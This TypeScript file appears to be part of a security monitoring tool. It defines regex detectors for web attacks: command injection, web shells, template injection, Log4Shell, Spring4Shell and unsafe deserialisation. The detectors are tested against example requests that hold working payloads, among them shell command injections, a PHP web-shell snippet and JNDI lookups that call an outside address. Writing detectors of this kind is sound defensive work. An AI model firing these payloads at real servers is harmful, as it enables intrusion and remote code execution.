import type { Indicator } from "../../indicator.ts";
import { requested } from "../execution/examples.ts";
import { requests } from "./web-request.ts";

/** Web requests that try to run code or commands on the server. */

const web = {
  tactic: "initial-access",
  technique: "T1190",
  platforms: ["Linux", "Containers"],
  families: ["plugin", "syscall"],
} as const;
const commandWords =
  "id|whoami|who|w|uname|cat|tac|head|tail|less|more|ls|dir|pwd|ps|env|printenv|set|ping|sleep|wget|curl|nc|ncat|netcat|bash|sh|zsh|dash|python3?|perl|php|ruby|node|ifconfig|ip|ipconfig|netstat|ss|hostname|nslookup|dig|host|echo|printf|touch|rm|mv|cp|find|grep|awk|sed|systeminfo|net|type|powershell|cmd|certutil|telnet|ftp|chmod|kill|reboot|shutdown|date|uptime|last|busybox|base64|tee|crontab|mkfifo|openssl|ssh|scp|nmap|which|locate|df|du|mount|lsblk|arp|route|passwd|su|sudo|java|gcc|cc|make|tasklist|taskkill|phpinfo";
const commandPath = String.raw`(?:\/(?:usr\/)?(?:local\/)?s?bin\/|\\)?`;

export const webCommandInjection: Indicator = {
  ...web,
  id: "web-command-injection",
  behaviour: "asks the web application to run a shell command that is planted in the request",
  meaning:
    "Where the application passes the value to a shell, the visitor's command runs with the application's rights.",
  alsoTechniques: ["T1059.004"],
  severity: "high",
  certainty: "likely",
  source: "https://owasp.org/www-community/attacks/Command_Injection",
  match: requests([
    new RegExp(
      String.raw`(?:;|\|\|?|&&|\n|\x60|\$\(|\$\{ifs\}|%0a)[ \n]{0,3}(?:\$\{?ifs\}?)?${commandPath}(?:${commandWords})(?![\w=.-])`,
    ),
    new RegExp(`(?:[?&=][^&?=]{0,80}) ?& ?${commandPath}(?:${commandWords})(?:[ ;|]|$)`),
    /\$\{?ifs\}?/,
    /\(\) ?\{ ?:; ?\} ?;/,
    new RegExp(
      `[?&](?:cmd|exec|command|execute|run|ping|shell|c|do)=${commandPath}(?:whoami|id|uname|cat|ls|wget|curl|nc|bash|sh|ping|powershell|ipconfig|ifconfig|net)(?:[ &;|]|$)`,
    ),
    /(?:system|exec|passthru|shell_exec|popen|proc_open|eval|assert)\(['"]?(?:\$_(?:get|post|request)|base64_decode|id|whoami|cat|ls|phpinfo|uname|'|")/,
    /\/bin\/(?:ba|da|z)?sh(?:[ &;|]|$)|\/etc\/passwd ?[;|&]/,
  ]),
  examples: {
    found: [
      requested("/?q=%3B%20id"),
      requested("/ping?host=127.0.0.1%7Cwhoami"),
      requested("/?q=%253Bwhoami"),
      requested("/?q=$(curl%20http://203.0.113.9)"),
      requested("/?q=a%0Acat%20/etc/hosts"),
      requested("/cgi?c=`id`"),
    ],
    ignored: [
      requested("/items?a=1&id=5"),
      requested("/search?q=cats;dogs"),
      requested("/help?topic=who&lang=en"),
      requested("/a;jsessionid=12?ls=3"),
      requested("/doc?x=a|b"),
    ],
  },
};

export const webShellRequest: Indicator = {
  ...web,
  id: "web-shell-request",
  behaviour: "asks for a web shell, or tries to put one there",
  meaning: "A web shell runs commands for whoever knows its address, for as long as nobody finds it.",
  technique: "T1505.003",
  tactic: "persistence",
  alsoTechniques: ["T1190"],
  severity: "high",
  certainty: "likely",
  source: "https://attack.mitre.org/techniques/T1505/003/",
  match: requests([
    /\/(?:c99|r57|wso\d{0,2}|b374k|alfa|alfacgiapi|webshell|shell|cmd|backdoor|weevely|antsword|godzilla|behinder|mini|indoxploit|leafmailer|0x|up)\.(?:php\d?|phtml|jsp|jspx|asp|aspx|ashx|cgi|pl)(?![\w])/,
    /\.(?:php\d?|phtml|jsp|jspx|aspx?|cgi)\?(?:cmd|exec|command|c|shell|pass|pwd)=/,
    /<\?(?:php|=) ?[^>]{0,80}(?:system|eval|exec|passthru|assert|base64_decode)\(/,
    /<%[^%]{0,80}getruntime\(\)/,
    "eval-stdin.php",
  ]),
  examples: {
    found: [
      requested("/uploads/c99.php"),
      requested("/wp-content/x.php?cmd=whoami"),
      requested("/?x=%3C%3Fphp%20system(%24_GET%5B0%5D)%3B%3F%3E"),
      requested("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
    ],
    ignored: [requested("/shell-eggs.html"), requested("/index.php?page=shell"), requested("/admin.php?id=3")],
  },
};

export const webTemplateInjection: Indicator = {
  ...web,
  id: "web-template-injection",
  behaviour: "plants a template expression in the request for the server to evaluate",
  meaning: "An engine that evaluates it gives the visitor its objects, and with them commands on the server.",
  alsoTechniques: ["T1059"],
  severity: "high",
  certainty: "likely",
  source:
    "https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/07-Input_Validation_Testing/18-Testing_for_Server-side_Template_Injection",
  match: requests([
    /\{\{[^{}]{0,120}(?:\d ?[*+-] ?['"]?\d|config|self|request|__|\.class|constructor|lipsum|cycler|joiner|namespace|url_for|get_flashed|_self|['"]\.|\|)[^{}]{0,120}\}\}/,
    /[$#*@]\{[^{}]{0,120}(?:\d ?[*+-] ?\d|t\(java|class|runtime|processbuilder|system\.|\.getclass|exec\(|data_model|\bnew )[^{}]{0,120}\}?/,
    /<%=? ?[^%]{0,60}(?:\d ?[*+-] ?\d|system|file\.|`|exec|env)[^%]{0,60}%>/,
    /__(?:class|mro|subclasses|globals|builtins|import|init|base|bases)__/,
    "freemarker.template.utility",
    /#set ?\( ?\$|\{php\}|\{%[^%]{0,60}(?:import|for|if|set|include|debug)[^%]{0,80}%\}|_self\.env|%\{ ?\(?#|#_memberaccess|@java\.lang\.runtime@|ognlcontext|t\(java\.lang\.runtime\)|java\.lang\.(?:runtime|processbuilder)/,
  ]),
  examples: {
    found: [
      requested("/?q=%7B%7B7*7%7D%7D"),
      requested("/?q=${7*7}"),
      requested("/?name={{config.items()}}"),
      requested("/?q=%5F%5Fclass%5F%5F.%5F%5Fmro%5F%5F"),
      requested("/?q=%23set($x=1)"),
      requested("/login?redirect=%25%7B(%23a%3D1)%7D"),
    ],
    ignored: [
      requested("/docs/{{version}}/intro"),
      requested("/api/${user}/items"),
      requested("/price?min=7*7"),
      requested("/?q=class"),
    ],
  },
};

export const webLog4shell: Indicator = {
  ...web,
  id: "web-log4shell",
  behaviour: "plants a JNDI lookup for Log4j to resolve (Log4Shell, CVE-2021-44228)",
  meaning: "A vulnerable server fetches code from the address in it and runs it.",
  severity: "critical",
  certainty: "certain",
  source: "https://nvd.nist.gov/vuln/detail/CVE-2021-44228",
  match: requests([
    /\$\{ ?(?:jndi|\$\{(?:lower|upper|env|sys|date|::|:)|(?:lower|upper|env|sys|java|::-|base64):)[^\n]{0,200}/,
    /jndi:(?:ldaps?|rmi|dns|iiop|nis|corba|http)/,
  ]),
  examples: {
    found: [
      requested("/?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D"),
      requested("/", { user_agent: "${${lower:j}ndi:rmi://203.0.113.9/x}" }),
      requested("/?x=${${::-j}${::-n}di:dns://a}"),
    ],
    ignored: [requested("/docs/jndi-tutorial"), requested("/?q=${name}")],
  },
};

export const webSpringExploit: Indicator = {
  ...web,
  id: "web-spring-exploit",
  behaviour: "tries to reach the class loader or the expression language of Spring (Spring4Shell and relatives)",
  meaning: "On a vulnerable server it writes a web shell or runs a command.",
  severity: "critical",
  certainty: "certain",
  source: "https://nvd.nist.gov/vuln/detail/CVE-2022-22965",
  match: requests([
    /class\.(?:module\.)?(?:classloader|protectiondomain)/,
    "class[module]",
    "spring.cloud.function.routing-expression",
    /\/actuator\/gateway\/routes\/\w+/,
    "pipeline.first.pattern",
  ]),
  examples: {
    found: [
      requested("/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
      requested("/?q=%24%7B.data_model.class.protectionDomain%7D"),
      requested("/functionRouter", { headers: "spring.cloud.function.routing-expression: T(java.lang.Runtime)" }),
    ],
    ignored: [requested("/school?class=5b"), requested("/actuator/health")],
  },
};

export const webDeserialisation: Indicator = {
  ...web,
  id: "web-deserialisation",
  behaviour: "sends a serialised object that runs code when it is read",
  meaning: "A server that reads it builds the attacker's objects, and these start commands.",
  severity: "high",
  certainty: "likely",
  source: "https://owasp.org/www-community/vulnerabilities/Deserialization_of_untrusted_data",
  match: requests([
    /(?<![\w/+])ro0ab[\w+/=]{4,}/,
    /aced0005/,
    /(?<![a-z0-9])[oc]:\d{1,4}:"[\w\\]{1,80}":\d{1,4}:\{/,
    /(?<![a-z0-9])a:\d{1,4}:\{[is]:\d/,
    "!!python/",
    "__reduce__",
    "c__builtin__",
    /cposix ?\n?system|cos\n ?system|c__main__/,
    "_$$nd_func$$_",
    /gas[iv]k?[\w+/=]{12,}/,
    /"\$type" ?: ?"system\./,
    /"@type" ?: ?"(?:com\.sun|org\.apache|java)/,
    "!!javax.script",
    "objectinputstream",
    "ysoserial",
    /pickle\.loads|cpickle/,
  ]),
  examples: {
    found: [
      requested("/?d=rO0ABXNyABdqYXZhLnV0aWw"),
      requested("/?u=O%3A8%3A%22Evil%5CCmd%22%3A1%3A%7Bs"),
      requested("/?y=!!python/object/apply:os.system"),
      requested("/?p=cos%0Asystem%0A(S'id'"),
    ],
    ignored: [requested("/?a=1:2:3"), requested("/static/aced.css"), requested("/?q=pickled+herring")],
  },
};
